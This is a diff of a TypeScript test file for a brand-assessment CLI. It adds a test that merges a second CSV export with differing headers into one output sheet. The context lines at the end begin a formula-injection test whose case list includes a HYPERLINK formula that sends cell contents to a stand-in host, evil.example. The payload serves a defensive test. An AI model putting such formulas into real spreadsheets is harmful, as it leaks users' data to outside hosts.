@@ -111,6 +111,34 @@ describe('csv in the dialect of the spreadsheet it read', () => {
   });
 });
 
+describe('a run over several inputs: one sheet, each row saying which brand it is', () => {
+  it("a second file's header for the same field (Brand under Marque) fills that column; a YAML profile its name", async () => {
+    const dir = temp();
+    const second = join(dir, 'crm-export.csv');
+    writeFileSync(second, 'Brand,Country,Category,Remarques\nMaison Seconde,FR,beauty,vue au salon\n');
+    const args = [
+      'assess',
+      'fixtures/csv/french-excel-values.csv',
+      second,
+      'fixtures/brands/approve-french-skincare.yaml',
+    ];
+    const r = await run([...args, '--format', 'csv', '--csv-dialect', 'rfc4180', '--fail-on', 'none', '-q']);
+    expect(r.code).toBe(0);
+    const rows = parse(r.stdout, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
+    const other = toolHeader('otherColumns', 'en');
+    expect(rows.map((row) => [row.Marque, row.Pays, row['Catégorie']])).toEqual([
+      ['Maison Élodie', 'France', 'Beauté'],
+      ['Cantina Rossa', 'Italie', 'Vins et spiritueux'],
+      ['Brauhaus Nord', 'Allemagne', 'Boissons'],
+      ['Maison Seconde', 'FR', 'beauty'],
+      ['Maison Lumière', '', ''],
+    ]);
+    // the column that is no field of the first file's header still goes to "other columns"
+    expect(rows[3]![other]).toBe('Remarques: vue au salon');
+    expect(rows[4]![other]).toBe('');
+  });
+});
+
 describe('formula injection: neutralised in csv and xlsx, and in no other format', () => {
   const cases = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1', '@SUM(A1:A9)'];
 
